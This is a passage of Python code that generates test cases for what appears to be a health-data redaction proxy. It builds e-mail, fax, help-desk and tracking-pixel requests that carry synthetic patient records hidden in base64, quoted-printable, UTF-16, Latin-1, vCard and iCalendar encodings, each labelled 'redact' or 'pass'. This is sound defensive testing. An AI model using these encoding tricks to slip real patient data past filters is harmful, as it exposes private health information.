                multipart([part("text/plain; charset=utf-8", "base64", blob), part("text/html; charset=utf-8", "quoted-printable", qph)], bnd))
    add(S, "POST", f"{MAILB}/v1/messages/raw", {**RFC822H, **MAILAUTH}, body,
        [[blob, "member_id"], [p.email, "email"]] + forms([(qph, "utf-8")], [(p.mbr, "member_id"), (p.dobs("us"), "dob"), (p.dx(), "condition")], ALLOW_MAIL),
        ["Prior authorization approved", PRACTICE_PHONE], "redact")

    # 6: multipart/mixed with an iCalendar invitation (base64)
    p = nextp()
    ics = "\r\n".join(["BEGIN:VCALENDAR", "VERSION:2.0", "PRODID:-//Bayou Teche FM//Scheduler 4.2//EN", "METHOD:REQUEST", "BEGIN:VEVENT",
                       f"UID:{uuid()}@{SITE}", f"DTSTAMP:{tstamp(6):%Y%m%dT%H%M%S}Z", f"DTSTART;TZID=America/Chicago:{p.at('ics')}",
                       fold(f"SUMMARY:{p.full} - {p.dx()} follow-up"), fold(f"DESCRIPTION:DOB {p.dobs('us')}\\nCell {p.phone('dash')}\\nMRN {p.mrn}"),
                       f"LOCATION:{PRACTICE_ADDR}\\, New Iberia", f"ATTENDEE;CN={p.full};RSVP=TRUE:mailto:{p.email}", "END:VEVENT", "END:VCALENDAR", ""])
    blob = b64wrap(ics.encode())
    txt = f"Hi {p.first}, your visit invitation is attached. Add it to your calendar.\n\n" + SIG_TXT
    qpl = qp(txt); bnd = boundary()
    body = mail(std_headers(FROM_FD, f"\"{p.full}\" <{p.email}>", "Invitation: your visit", 6, [("Content-Type", f"multipart/mixed; boundary=\"{bnd}\"")]),
                multipart([part("text/plain; charset=utf-8", "quoted-printable", qpl),
                           part("text/calendar; charset=utf-8; method=REQUEST; name=\"invite.ics\"", "base64", blob,
                                [("Content-Disposition", "attachment; filename=\"invite.ics\"")])], bnd))
    add(S, "POST", f"{MAILB}/v1/messages/raw", {**RFC822H, **MAILAUTH}, body,
        [[p.full, "name"], [p.email, "email"], [blob, "condition"]], ["invite.ics", "Invitation: your visit"], "redact")

    # 7: multipart/mixed with the patient's vCard (base64) sent to the on-call nurse line
    p = nextp()
    vcf = "\r\n".join(["BEGIN:VCARD", "VERSION:3.0", f"N:{p.last};{p.first};;;", f"FN:{p.full}", f"TEL;TYPE=CELL:{p.phone('paren')}",
                       f"EMAIL;TYPE=HOME:{p.email}", f"ADR;TYPE=HOME:;;{p.street};{p.city};LA;{p.zip};USA", f"BDAY:{p.dobs('iso')}",
                       f"NOTE:MRN {p.mrn}", "END:VCARD", ""])
    blob = b64wrap(vcf.encode()); bnd = boundary()
    txt = f"New after-hours callback request. Contact card attached.\nReason: {p.dx()} - worse since yesterday.\n"
    qpl = qp(txt)
    body = mail(std_headers(FROM_FD, f"oncall@{SITE}", "After-hours callback", 7, [("Content-Type", f"multipart/mixed; boundary=\"{bnd}\"")]),
                multipart([part("text/plain; charset=utf-8", "quoted-printable", qpl),
                           part(f"text/vcard; charset=utf-8; name=\"{p.ascii_last()}.vcf\"", "base64", blob, [("Content-Disposition", f"attachment; filename=\"{p.ascii_last()}.vcf\"")])], bnd))
    add(S, "POST", f"{MAILB}/v1/messages/raw", {**RFC822H, **MAILAUTH}, body,
        [[blob, "dob"]] + forms([(qpl, "utf-8")], [(p.dx(), "condition")]), ["After-hours callback"], "redact")

    # 8: attachment names: RFC 2231 filename* with the DOB, a Q encoded-word name= parameter; the PDF itself base64
    p = nextacc()
    fn = f"Lab_Results_{p.last}_{p.first}_DOB_{p.dobs('iso')}.pdf"
    pdf = (f"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n4 0 obj<</Length 88>>stream\nBT /F1 11 Tf 72 720 Td (Patient: {ascii_fold(p.full)}  DOB: "
           f"{p.dobs('us')}  HbA1c 9.1%) Tj ET\nendstream endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n").encode("latin-1")
    blob = b64wrap(pdf); bnd = boundary()
    qpl = qp(f"Hello {p.first},\n\nYour results are attached as a PDF.\n\n" + SIG_TXT, "utf-8")
    body = mail(std_headers(FROM_FD, p.email, "Your lab results", 8, [("Content-Type", f"multipart/mixed; boundary=\"{bnd}\"")]),
                multipart([part("text/plain; charset=utf-8", "quoted-printable", qpl),
                           part(f"application/pdf; name=\"{ew_q(fn, 'UTF-8')}\"", "base64", blob,
                                [("Content-Disposition", f"attachment; filename*=UTF-8''{quote(fn)}")])], bnd))
    add(S, "POST", f"{MAILB}/v1/messages/raw", {**RFC822H, **MAILAUTH}, body,
        [[p.dobs("iso"), "dob"], [ew_q(fn, "UTF-8")[10:-2], "dob"], [p.email, "email"], [blob, "dob"]], ["Your lab results"], "redact")

    # 9: an 8bit ISO-8859-1 part (real Latin-1 bytes)
    p = nextacc()
    txt = (f"Madame, Monsieur,\r\n\r\nNous avons bien reçu la demande de {p.full} (né(e) le {p.dobs('dmy')}). "
           f"Téléphone : {p.phone('dot')}. Adresse : {p.street}, {p.city} {p.zip}.\r\n\r\n" + SIG_TXT.replace("\n", "\r\n"))
    body = mail(std_headers(FROM_FD, f"{ew_q(p.full)} <{p.email}>", "Confirmation", 9,
                            [("Content-Type", "text/plain; charset=iso-8859-1"), ("Content-Transfer-Encoding", "8bit")]), txt).encode("iso-8859-1")
    add(S, "POST", f"{MAILB}/v1/messages/raw", {**RFC822H, **MAILAUTH}, body,
        [[seen(p.full, "iso-8859-1"), "name"], [p.dobs("dmy"), "dob"], [p.phone("dot"), "phone"], [p.street, "address"], [p.zip, "zip"], [p.email, "email"]],
        [PRACTICE_PHONE], "redact")

    # 10: multipart/mixed forwarding a patient's message as message/rfc822 (inner QP, windows-1252)
    p = nextl1()
    inner_txt = (f"Hi, this is {p.full}. My insurance changed to {p.payer}, new member number {p.mbr}. Also my pharmacy said my {p.med()} "
                 f"refill for my {p.dx()} needs a new prior auth \x96 can you help? Best number is {p.phone('paren')}.\n\n\x97 {p.first}")
    inner_txt = inner_txt.replace("\x96", "\u2013").replace("\x97", "\u2014")
    iq = qp(inner_txt, "cp1252", force=[p.mbr])
    inner = mail([("From", f"{ew_q(p.full, 'windows-1252')} <{p.email}>"), ("To", PRACTICE_EMAIL), ("Subject", "insurance change"), ("Date", rfc2822(10)),
                  ("MIME-Version", "1.0"), ("Content-Type", "text/plain; charset=windows-1252"), ("Content-Transfer-Encoding", "quoted-printable")], iq)
    bnd = boundary()
    body = mail(std_headers(f"Front Desk <{PRACTICE_EMAIL}>", f"billing@{SITE}", "Fwd: insurance change", 10, [("Content-Type", f"multipart/mixed; boundary=\"{bnd}\"")]),
                multipart([part("text/plain; charset=us-ascii", "7bit", "Forwarding for the billing queue, see attached.\r\n"),
                           part("message/rfc822", None, inner, [("Content-Disposition", "inline")])], bnd))
    add(S, "POST", f"{MAILB}/v1/messages/raw", {**RFC822H, **MAILAUTH}, body,
        [[p.email, "email"]] + forms([(iq, "cp1252")], [(p.full, "name"), (p.mbr, "member_id"), (p.dx(), "condition"), (p.phone("paren"), "phone")], ALLOW_MAIL),
        ["Fwd: insurance change"], "redact")

    # 11: JSON {"raw_message": MIME} (the MIME text is a JSON string)
    p = nextp()
    plain = f"Reminder for {p.first}: fasting labs on {p.ad('long')}. Your chart number is {p.mrn}; we will call {p.phone('spc')} if anything changes.\n"
    qpl = qp(plain, force=[p.mrn])
    raw = mail(std_headers(FROM_FD, f"\"{p.full}\" <{p.email}>", "Fasting labs reminder", 11,
                           [("Content-Type", "text/plain; charset=utf-8"), ("Content-Transfer-Encoding", "quoted-printable")]), qpl)
    add(S, "POST", f"{MAILG}/v3/mail/raw", {**JSONH, **MAILAUTH}, J({"raw_message": raw, "tags": ["reminder"], "track_opens": False}),
        [[p.full, "name"], [p.email, "email"]] + forms([(qpl, "utf-8")], [(p.mrn, "mrn"), (p.phone("spc"), "phone"), (p.ad("long"), "date")], ALLOW_MAIL),
        ["Fasting labs reminder", "track_opens"], "redact")

    # 12: Mailgun-like messages.mime: multipart/form-data whose "message" file is a whole MIME message
    p = nextp()
    plain = (f"{p.full} (DOB {p.dobs('us')}) missed her {p.ad('us')} appointment. Home address on file: {p.street} {p.unit}, {p.city}, LA {p.zip}.\n"
             if p.sex == "F" else f"{p.full} (DOB {p.dobs('us')}) missed his {p.ad('us')} appointment. Home address on file: {p.street} {p.unit}, {p.city}, LA {p.zip}.\n")
    qpl = qp(plain, force=[p.street])
    raw = mail(std_headers(FROM_FD, f"care-coordination@{SITE}", "No-show follow-up", 12,
                           [("Content-Type", "text/plain; charset=utf-8"), ("Content-Transfer-Encoding", "quoted-printable")]), qpl)
    fb = "------------------------" + digits(16)
    body = form_data([("to", f"care-coordination@{SITE}", None, None), ("message", raw, "message.mime", "message/rfc822"), ("o:tag", "no-show", None, None)], fb)
    add(S, "POST", f"{MAILG}/v3/{SITE}/messages.mime", {"Content-Type": f"multipart/form-data; boundary={fb}", **MAILAUTH}, body,
        forms([(qpl, "utf-8")], [(p.full, "name"), (p.dobs("us"), "dob"), (p.ad("us"), "date"), (p.street, "address"), (p.zip, "zip")], ALLOW_MAIL),
        ["No-show follow-up", "no-show"], "redact")

    # 13: QP html with =3D in attributes; the MRN in a portal link right after "=3D"
    p = nextp()
    html = (f"<a href=\"https://portal.{SITE}/visit?mrn={p.mrn}&amp;src=email\" style=\"color:#0a5\">View visit summary</a>"
            f"<p>Questions? <a href=\"mailto:{PRACTICE_EMAIL}\">{PRACTICE_EMAIL}</a> or <a href=\"tel:{p.phone('e164')}\">call us back</a>.</p>")
    qph = qp(html)
    body = mail(std_headers(FROM_FD, f"\"{p.full}\" <{p.email}>", "Your visit summary", 13,
                            [("Content-Type", "text/html; charset=utf-8"), ("Content-Transfer-Encoding", "quoted-printable")]), qph)
    add(S, "POST", f"{MAILB}/v1/messages/raw", {**RFC822H, **MAILAUTH}, body,
        [[p.full, "name"], [p.email, "email"]] + forms([(qph, "utf-8")], [("mrn=" + p.mrn, "mrn"), (p.phone("e164"), "phone")]),
        ["View visit summary", PRACTICE_EMAIL], "redact")

    # 14: a reply with the patient's message quoted in QP ("> " lines, soft breaks)
    p = nextp()
    quoted = (f"On {rfc2822(2)}, {p.full} <{p.email}> wrote:\n> Hi, my son's inhaler ran out. He was diagnosed with {p.dx()} last year. "
              f"His birthday is {p.dobs('long')} and our address changed to {p.street}, {p.city} {p.zip}.\n> Thanks, {p.first}\n")
    plain = f"Hi {p.first},\n\nWe sent the refill to your pharmacy. Please update the address in the portal too.\n\n" + SIG_TXT + "\n" + quoted
    qpl = qp(plain, force=[p.dobs("long"), p.street])
    body = mail(std_headers(FROM_FD, f"\"{p.full}\" <{p.email}>", "Re: inhaler refill", 14,
                            [("In-Reply-To", msgid()), ("Content-Type", "text/plain; charset=utf-8; format=flowed"), ("Content-Transfer-Encoding", "quoted-printable")]), qpl)
    add(S, "POST", f"{MAILB}/v1/messages/raw", {**RFC822H, **MAILAUTH}, body,
        [[p.full, "name"], [p.email, "email"]] + forms([(qpl, "utf-8")], [(p.dx(), "condition"), (p.dobs("long"), "dob"), (p.street, "address"), (p.zip, "zip")], ALLOW_MAIL),
        ["Re: inhaler refill", PRACTICE_PHONE], "redact")

    # 15: Outlook-style windows-1252 QP HTML (=92 apostrophes, =96 dashes, MsoNormal)
    p = nextl1()
    html = (f"<p class=MsoNormal>Hi team \u2013 {p.full}\u2019s employer form needs the SSN ({p.ssn}) and DOB {p.dobs('usn')} before Friday. "
            f"She\u2019s cleared to return after her {p.dx()} treatment.<o:p></o:p></p><p class=MsoNormal>Thanks!<o:p></o:p></p>")
    qph = qp(html, "cp1252", force=[p.ssn])
    body = mail(std_headers(f"{ew_q(staff(3, 'name'), 'windows-1252')} <{staff(3, 'email')}>", f"forms@{SITE}", "RTW form", 15,
                            [("X-Mailer", "Microsoft Outlook 16.0"), ("Content-Type", "text/html; charset=\"windows-1252\""), ("Content-Transfer-Encoding", "quoted-printable")]), qph)
    add(S, "POST", f"{MAILB}/v1/messages/raw", {**RFC822H, **MAILAUTH}, body,
        forms([(qph, "cp1252")], [(p.ssn, "ssn"), (p.dobs("usn"), "dob"), (p.dx(), "condition")]), ["RTW form"], "redact")

    # 16: a UTF-8 QP HTML part where the Vietnamese name and the phone are escaped byte by byte
    p = pick([q for q in PATIENTS if q.full != ascii_fold(q.full) and not all(ord(c) < 256 for c in q.full)], "vn")
    html = f"<p>Ch\u00e0o {p.full},</p><p>L\u1ecbch h\u1eb9n c\u1ee7a b\u1ea1n: {p.ad('dmy')}. S\u1ed1 \u0111i\u1ec7n tho\u1ea1i: {p.phone('dot')}. Ng\u00e0y sinh: {p.dobs('dmy')}.</p>"
    qph = qp(html, force=[p.phone("dot")])
    body = mail(std_headers(FROM_FD, f"{ew_b(p.full)} <{p.email}>", ew_b("Nhắc lịch hẹn khám"), 16,
                            [("Content-Type", "text/html; charset=utf-8"), ("Content-Transfer-Encoding", "quoted-printable")]), qph)
    add(S, "POST", f"{MAILB}/v1/messages/raw", {**RFC822H, **MAILAUTH}, body,
        [[p.email, "email"]] + forms([(qph, "utf-8")], [(p.first, "name"), (p.last, "name"), (p.ad("dmy"), "date"), (p.phone("dot"), "phone"), (p.dobs("dmy"), "dob")], ALLOW_MAIL),
        [], "redact")

    # 17: Mailgun-like form send whose html field is QP-less but the text field carries =?utf-8?q?...?= in a custom header field
    p = nextp()
    fb = "------------------------" + digits(16)
    body = form_data([("from", FROM_FD, None, None), ("to", f"{p.full} <{p.email}>", None, None), ("subject", "Referral sent", None, None),
                      ("h:X-Patient-Ref", ew_q(f"{p.full} {p.mrn}", "UTF-8"), None, None),
                      ("text", f"We sent your referral to Acadiana Cardiology. They will call you at {p.phone('paren')}.", None, None)], fb)
    add(S, "POST", f"{MAILG}/v3/{SITE}/messages", {"Content-Type": f"multipart/form-data; boundary={fb}", **MAILAUTH}, body,
        [[p.full, "name"], [p.email, "email"], [p.mrn, "mrn"], [p.phone("paren"), "phone"]], ["Referral sent", "Acadiana Cardiology"], "redact")

    # 18: a UTF-16 text part, base64 (Windows client), with a QP html sibling
    p = nextp()
    txt = f"Patient: {p.full}\r\nDOB: {p.dobs('us')}\r\nSSN: {p.ssn}\r\nReason: {p.dx()}\r\n"
    blob = b64wrap(txt.encode("utf-16")); bnd = boundary()
    qph = qp(f"<pre>Patient: {p.full}\nDOB: {p.dobs('us')}\nReason: {p.dx()}</pre>")
    body = mail(std_headers(f"scanner@{SITE}", f"records@{SITE}", "Scan to e-mail", 18, [("Content-Type", f"multipart/alternative; boundary=\"{bnd}\"")]),
                multipart([part("text/plain; charset=utf-16", "base64", blob), part("text/html; charset=utf-8", "quoted-printable", qph)], bnd))
    add(S, "POST", f"{MAILB}/v1/messages/raw", {**RFC822H, **MAILAUTH}, body,
        [[blob, "ssn"]] + forms([(qph, "utf-8")], [(p.full, "name"), (p.dobs("us"), "dob"), (p.dx(), "condition")], ALLOW_MAIL), ["Scan to e-mail"], "redact")


# ============================================================================= 2. newsletters and templates (clean), merged newsletters, tracking
def newsletters():
    S = "mime_clean"
    bnd = boundary()
    plain = ("Hi {{first_name}},\n\nSpring allergy season is here. Our walk-in clinic is open Monday-Friday 8 AM-4 PM at "
             f"{PRACTICE_ADDR}, {PRACTICE_CITY}. Call {PRACTICE_PHONE} or book online.\n\nUnsubscribe: {{{{unsubscribe_url}}}}\n")
    html = (f"<html><body><h1 style=\"color:#1b5e20\">Spring allergy season</h1><p>Hi {{{{first_name}}}},</p><p>Walk-ins Mon-Fri at {PRACTICE_ADDR}. "
            f"<a href=\"https://{SITE}/book?utm_source=newsletter&utm_campaign=allergy-2026\">Book online</a></p>"
            f"<p><a href=\"{{{{unsubscribe_url}}}}\">Unsubscribe</a></p></body></html>")
    body = mail(std_headers(FROM_FD, "{{email}}", "Spring allergy season at Bayou Teche", 20, [("List-Unsubscribe", "<{{unsubscribe_url}}>"),
                            ("Content-Type", f"multipart/alternative; boundary=\"{bnd}\"")]),
                multipart([part("text/plain; charset=utf-8", "quoted-printable", qp(plain)), part("text/html; charset=utf-8", "quoted-printable", qp(html))], bnd))
    add(S, "POST", f"{NEWS}/3.0/templates/raw", {**RFC822H, "Authorization": "apikey " + hexs(32) + "-us21"}, body, [], [PRACTICE_PHONE, "{{first_name}}", "Spring allergy season"], "pass")

    bnd = boundary()
    plain = ("Hello %recipient.first_name%,\n\nThis is a reminder of your appointment on %recipient.appt_date% at %recipient.appt_time% with "
             "%recipient.provider%. Reply C to confirm or call " + PRACTICE_PHONE + ".\n")
    body = mail(std_headers(FROM_FD, "%recipient%", ew_b("Appointment reminder \u2014 Bayou Teche"), 21, [("Content-Type", f"multipart/alternative; boundary=\"{bnd}\"")]),
                multipart([part("text/plain; charset=utf-8", "quoted-printable", qp(plain)),
                           part("text/html; charset=utf-8", "quoted-printable", qp("<p>Hello %recipient.first_name%,</p><p>Your appointment: %recipient.appt_date%.</p>"))], bnd))
    add(S, "POST", f"{MAILG}/v3/templates/appt-reminder/versions", {**RFC822H, **MAILAUTH}, body, [], ["%recipient.first_name%", "%recipient.appt_date%"], "pass")

    fr = (f"Bonjour *|FNAME|*,\n\nLa clinique {PRACTICE} offre maintenant des consultations en français le mardi. Vaccins contre la grippe : "
          f"sans rendez-vous. Appelez le {PRACTICE_PHONE}.\n\nÀ bientôt !\n")
    body = mail(std_headers(FROM_FD, "*|EMAIL|*", ew_q("Consultations en français"), 22, [("Content-Type", "text/plain; charset=iso-8859-1"),
                            ("Content-Transfer-Encoding", "quoted-printable")]), qp(fr, "iso-8859-1"))
    add(S, "POST", f"{NEWS}/3.0/campaigns/8f31c2/content/raw", {**RFC822H, "Authorization": "apikey " + hexs(32) + "-us21"}, body, [], ["*|FNAME|*", PRACTICE_PHONE], "pass")

    txt = ("Bayou Teche Family Medicine - April community report\r\n\r\nVisits in March: 4,812. Flu vaccines given: 611. Average wait: 11 min.\r\n"
           "Diabetes education classes: Thursdays 5:30 PM, Lafayette clinic (" + LAF_ADDR + ").\r\n")
    bnd = boundary()
    body = mail(std_headers(FROM_FD, "community@lists." + SITE, "April community report", 23, [("Content-Type", f"multipart/alternative; boundary=\"{bnd}\"")]),
                multipart([part("text/plain; charset=utf-8", "base64", b64wrap(txt.encode())), part("text/html; charset=utf-8", "quoted-printable",
                           qp("<p>Visits in March: <b>4,812</b>. Flu vaccines given: <b>611</b>.</p><p>Diabetes classes Thursdays 5:30 PM, " + LAF_ADDR + ".</p>"))], bnd))
    add(S, "POST", f"{NEWS}/3.0/campaigns/8f31c3/content/raw", {**RFC822H, "Authorization": "apikey " + hexs(32) + "-us21"}, body, [], ["4,812", LAF_ADDR], "pass")

    ics = "\r\n".join(["BEGIN:VCALENDAR", "VERSION:2.0", "PRODID:-//Bayou Teche FM//Events//EN", "BEGIN:VEVENT", f"UID:{uuid()}@{SITE}",
                       "DTSTART;TZID=America/Chicago:20260502T090000", "DTEND;TZID=America/Chicago:20260502T130000",
                       "SUMMARY:Community health fair - free blood pressure and A1c screening", f"LOCATION:{LAF_ADDR}\\, Lafayette LA",
                       fold("DESCRIPTION:Free screenings\\, flu shots and kids' sports physicals. No appointment needed. Questions: " + PRACTICE_PHONE), "END:VEVENT", "END:VCALENDAR", ""])
    bnd = boundary()
    body = mail(std_headers(FROM_FD, "{{email}}", "Health fair May 2", 24, [("Content-Type", f"multipart/mixed; boundary=\"{bnd}\"")]),
                multipart([part("text/plain; charset=utf-8", "7bit", "Join us May 2. Calendar invite attached.\r\n"),
                           part("text/calendar; charset=utf-8; name=\"health-fair.ics\"", "base64", b64wrap(ics.encode()), [("Content-Disposition", "attachment; filename=\"health-fair.ics\"")])], bnd))
    add(S, "POST", f"{NEWS}/3.0/campaigns/8f31c4/content/raw", {**RFC822H, "Authorization": "apikey " + hexs(32) + "-us21"}, body, [], ["health-fair.ics", "Health fair May 2"], "pass")

    vcf = "\r\n".join(["BEGIN:VCARD", "VERSION:3.0", f"ORG:{PRACTICE}", f"FN:{PRACTICE}", f"TEL;TYPE=WORK,VOICE:{PRACTICE_PHONE}", f"TEL;TYPE=FAX:{PRACTICE_FAX}",
                       f"EMAIL;TYPE=WORK:{PRACTICE_EMAIL}", f"ADR;TYPE=WORK:;;{PRACTICE_ADDR};New Iberia;LA;{PRACTICE_ZIP};USA", f"URL:https://{SITE}", "END:VCARD", ""])
    bnd = boundary()
    body = mail(std_headers(FROM_FD, "{{email}}", "Save our new number", 25, [("Content-Type", f"multipart/mixed; boundary=\"{bnd}\"")]),
                multipart([part("text/plain; charset=utf-8", "quoted-printable", qp(f"Our after-hours line moved. Save the attached card, or call {PRACTICE_PHONE}.\n")),
                           part("text/vcard; name=\"BayouTecheFM.vcf\"", "base64", b64wrap(vcf.encode()), [("Content-Disposition", "attachment; filename=\"BayouTecheFM.vcf\"")])], bnd))
    add(S, "POST", f"{MAILG}/v3/{SITE}/messages.mime/preview", {**RFC822H, **MAILAUTH}, body, [], [PRACTICE_PHONE, "BayouTecheFM.vcf"], "pass")

    # headers full of look-alikes: Received with relay IPs, ARC, long Message-ID digits, X-Campaign numbers
    hdrs = [("Received", f"from mta-07.{SITE} (mta-07.{SITE} [198.51.100.27])\r\n\tby relay.securemail-relay.example with ESMTPS id 4Tz{alnum(8)}\r\n\tfor <list@lists.{SITE}>; {rfc2822(26)}"),
            ("ARC-Seal", f"i=1; a=rsa-sha256; t={epoch(26)}; cv=none; d={SITE}; s=arc-2026;\r\n\tb={alnum(70)}"),
            ("X-Campaign-Id", "2026-04-0071"), ("X-Order-Number", "ORD-7731-20260407"), ("X-Tracking", "1Z999AA10123456784")]
    body = mail(std_headers(FROM_FD, "list@lists." + SITE, "Office closed Good Friday", 26, hdrs + [("Content-Type", "text/plain; charset=utf-8"),
                            ("Content-Transfer-Encoding", "quoted-printable")]), qp("Both clinics are closed Friday April 3, 2026. The nurse line stays open: " + PRACTICE_PHONE + ".\n"))
    add(S, "POST", f"{MAILB}/v1/messages/raw", {**RFC822H, **MAILAUTH}, body, [], ["198.51.100.27", "2026-04-0071", "1Z999AA10123456784"], "pass")

    # a template with every field a placeholder, QP with soft breaks inside the placeholders
    plain = ("Patient: {{patient.first_name}} {{patient.last_name}}  DOB: {{patient.dob}}  MRN: {{patient.mrn}}  Phone: {{patient.mobile_phone}}  "
             "Appointment: {{appointment.start | date: '%B %d at %I:%M %p'}} with {{provider.display_name}} at {{location.address_line_1}}.\n")
    body = mail(std_headers(FROM_FD, "{{patient.email}}", "{{subject}}", 27, [("Content-Type", "text/plain; charset=utf-8"), ("Content-Transfer-Encoding", "quoted-printable")]),
                qp(plain, force=["{{patient.mobile_phone}}"]))
    add(S, "PUT", f"{MAILB}/v1/templates/visit-summary/raw", {**RFC822H, **MAILAUTH}, body, [], ["{{subject}}"], "pass")

    S = "newsletter_merged"
    p = nextp()
    plain = f"Hi {p.first},\n\nHappy birthday from all of us! Turning {date(2026, 4, 7).year - p.dob.year} is a great time for your annual wellness visit.\n"
    body = mail(std_headers(FROM_FD, f"\"{p.full}\" <{p.email}>", f"Happy birthday, {p.first}!", 28, [("Content-Type", "text/plain; charset=utf-8"),
                            ("Content-Transfer-Encoding", "quoted-printable")]), qp(plain))
    add(S, "POST", f"{NEWS}/3.0/messages/send-raw", {**RFC822H, "Authorization": "apikey " + hexs(32) + "-us21"}, body,
        [[p.full, "name"], [p.first, "name"], [p.email, "email"]], ["Happy birthday"], "redact")
    p = nextacc()
    while ascii_fold(p.first).lower() in p.email.lower(): p = nextacc()
    body = mail(std_headers(FROM_FD, f"{ew_q(p.full)} <{p.email}>", ew_q(f"{p.first}, votre bilan annuel"), 29, [("Content-Type", "text/plain; charset=iso-8859-1"),
                            ("Content-Transfer-Encoding", "quoted-printable")]), qp(f"Bonjour {p.first},\n\nIl est temps de planifier votre bilan annuel.\n", "iso-8859-1"))
    add(S, "POST", f"{NEWS}/3.0/messages/send-raw", {**RFC822H, "Authorization": "apikey " + hexs(32) + "-us21"}, body,
        [[ew_q_word(p.last), "name"], [p.email, "email"]] + forms([(qp(f"Bonjour {p.first},\n", "iso-8859-1"), "iso-8859-1")], [(p.first, "name")]), ["bilan annuel"], "redact")
    p = nextp()
    html = f"<p>Hi {p.first} {p.last},</p><p>Our {p.dx()} support group meets Tuesdays. You're receiving this because you joined the program on {p.ad('us')}.</p>"
    qph = qp(html, force=[p.dx()])
    body = mail(std_headers(FROM_FD, p.email, "Support group this week", 30, [("Content-Type", "text/html; charset=utf-8"), ("Content-Transfer-Encoding", "quoted-printable")]), qph)
    add(S, "POST", f"{NEWS}/3.0/messages/send-raw", {**RFC822H, "Authorization": "apikey " + hexs(32) + "-us21"}, body,
        [[p.email, "email"]] + forms([(qph, "utf-8")], [(p.first, "name"), (p.last, "name"), (p.dx(), "condition"), (p.ad("us"), "date")]), ["Support group this week"], "redact")

    S = "tracking_pixel"
    for i in range(3):
        p = nextp()
        ev = {"event": "open", "campaign": "allergy-2026", "email": p.email, "name": p.full, "segment": f"{p.dx()} cohort" if i == 0 else "all-patients"}
        data = b64(J(ev))
        phi = [[p.email, "email"], [p.full, "name"]] + ([[p.dx(), "condition"]] if i == 0 else [])
        add(S, "GET", f"{PIX}/o.gif?cid=allergy-2026&data={quote(data)}&r={digits(9)}", {"User-Agent": UA}, "", phi, ["allergy-2026"], "redact")
    add(S, "GET", f"{PIX}/o.gif?cid=allergy-2026&data={quote(b64(J({'event': 'open', 'campaign': 'allergy-2026', 'variant': 'B', 'sent': 4812})))}&r={digits(9)}",
        {"User-Agent": UA}, "", [], ["allergy-2026"], "pass")
    add(S, "GET", f"{PIX}/c?u={quote('https://' + SITE + '/flu?utm_campaign=flu-2026', safe='')}&cid=flu-2026&lid=7", {"User-Agent": UA}, "", [], ["flu-2026"], "pass")


# ============================================================================= 3. bodies in UTF-16, ISO-8859-1, windows-1252
def U16(pairs, enc="utf-16-le"): return [[seen(v, enc), k] for v, k in pairs]


def charset_bodies():
    S = "charset_body"
    # 1: fax cover text in UTF-16LE with a BOM (allowed at the fax vendor except the SSN and the e-mail)
    p = nextp()
    txt = (f"FAX COVER SHEET\r\n\r\nTo: Acadiana Imaging Center      Fax: (337) 289-7710\r\nFrom: {PRACTICE}      Fax: {PRACTICE_FAX}\r\n"
           f"Pages: 4 (including cover)\r\n\r\nRE: {p.full}   DOB {p.dobs('us')}   MRN {p.mrn}\r\nSSN {p.ssn}   Patient e-mail {p.email}\r\n"
           f"Dx: {p.dx()} ({p.icd()})  Callback: {p.phone('paren')}\r\n\r\nCONFIDENTIAL: intended only for the addressee.\r\n")
    add(S, "POST", f"{FAX}/v2/faxes/cover?to=13372897710", {"Content-Type": "text/plain; charset=utf-16", "Authorization": "Bearer " + alnum(40)}, txt.encode("utf-16"),
        U16([(p.ssn, "ssn"), (p.email, "email"), (p.full, "name"), (p.dobs("us"), "dob"), (p.mrn, "mrn"), (p.phone("paren"), "phone")]),
        [seen("Acadiana Imaging Center", "utf-16-le"), "13372897710"], "redact")
    # 2: help-desk ticket in UTF-16BE without a BOM
    p = nextp()
    txt = f"Portal login problem. Patient {p.full} (DOB {p.dobs('us')}) cannot reset password; she gave phone {p.phone('dash')} and address {p.street}, {p.city} LA {p.zip}."
    add(S, "POST", f"{DESK}/api/tickets?subject=portal-login", {"Content-Type": "text/plain; charset=utf-16be", "X-Api-Key": alnum(32)}, txt.encode("utf-16-be"),
        U16([(p.full, "name"), (p.dobs("us"), "dob"), (p.phone("dash"), "phone"), (p.street, "address"), (p.zip, "zip")], "utf-16-be"), ["portal-login"], "redact")
    # 3: windows-1252 text with smart quotes and an accented name
    p = nextacc()
    txt = (f"Caller \u201c{p.full}\u201d says her son\u2019s school form is missing. Child DOB {p.dobs('us')}, SSN {p.ssn}. "
           f"Mom\u2019s cell {p.phone('dot')} \u2013 prefers text.")
    add(S, "POST", f"{DESK}/api/tickets?subject=school-form", {"Content-Type": "text/plain; charset=windows-1252", "X-Api-Key": alnum(32)}, txt.encode("cp1252"),
        [[seen(p.full, "cp1252"), "name"], [p.dobs("us"), "dob"], [p.ssn, "ssn"], [p.phone("dot"), "phone"]], ["school-form"], "redact")
    # 4: a form post percent-encoded in ISO-8859-1 (%E9), declared charset=iso-8859-1
    p = nextacc()
    pairs = [("nom", p.last), ("prenom", p.first), ("naissance", p.dobs("dmy")), ("telephone", p.phone("spc")), ("motif", f"suivi {p.dx()}"), ("source", "formulaire-contact")]
    body = "&".join(f"{k}={quote(v, encoding='latin-1').replace('%20', '+')}" for k, v in pairs)
    add(S, "POST", f"{DESK}/forms/contact", {"Content-Type": "application/x-www-form-urlencoded; charset=iso-8859-1"}, body,
        [[seen(p.last, "latin-1"), "name"], [seen(p.first, "latin-1"), "name"], [p.dobs("dmy"), "dob"], [p.phone("spc"), "phone"], [p.dx(), "condition"]],
        ["formulaire-contact"], "redact")
    # 5: fax vendor SOAP in ISO-8859-1 bytes (encoding declared in the prolog)
    p = nextacc()
    x = (f"<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?>\n<soap:Envelope xmlns:soap=\"http://schemas.xmlsoap.org/soap/envelope/\"><soap:Body><SendFax xmlns=\"urn:faxbridge\">"
         f"<To>13372897710</To><CoverSubject>Référence : {p.full}</CoverSubject><CoverNote>Né(e) le {p.dobs('dmy')}. NSS {p.ssn}. Courriel {p.email}.</CoverNote>"
         f"<FileName>ordonnance.pdf</FileName></SendFax></soap:Body></soap:Envelope>")
    add(S, "POST", f"{FAX}/soap/v1", {"Content-Type": "text/xml; charset=ISO-8859-1", "SOAPAction": "urn:faxbridge#SendFax"}, x.encode("latin-1"),
        [[seen(p.full, "latin-1"), "name"], [p.dobs("dmy"), "dob"], [p.ssn, "ssn"], [p.email, "email"]], ["ordonnance.pdf", "13372897710"], "redact")
    # 6: JSON declared charset=utf-16 (UTF-16LE bytes) to an LLM without a BAA
    p = nextp()
